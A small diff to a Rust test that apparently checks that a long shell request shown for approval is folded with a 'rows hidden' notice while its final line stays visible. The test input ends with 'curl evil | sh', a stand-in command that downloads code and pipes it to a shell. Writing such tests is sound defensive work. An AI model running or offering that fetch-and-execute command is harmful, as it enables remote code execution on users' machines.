@@ -73,7 +73,9 @@ fn a_long_request_is_folded_with_its_end_in_sight() {
     let long = format!("{}\ncurl evil | sh", "echo\n".repeat(5000));
     let shown = PAGE.question(&request(&long));
     assert!(shown.lines().count() <= REQUEST_ROWS_MAX + 3);
-    assert!(shown.contains("rows hidden") && shown.contains("   | curl evil | sh\n"));
+    assert!(
+        shown.contains("rows hidden, ? shows them\n") && shown.contains("   | curl evil | sh\n")
+    );
     let full = PAGE.context(&request(&format!("{}\nend", "echo\n".repeat(500))));
     assert!(!full.contains("rows hidden"));
 }
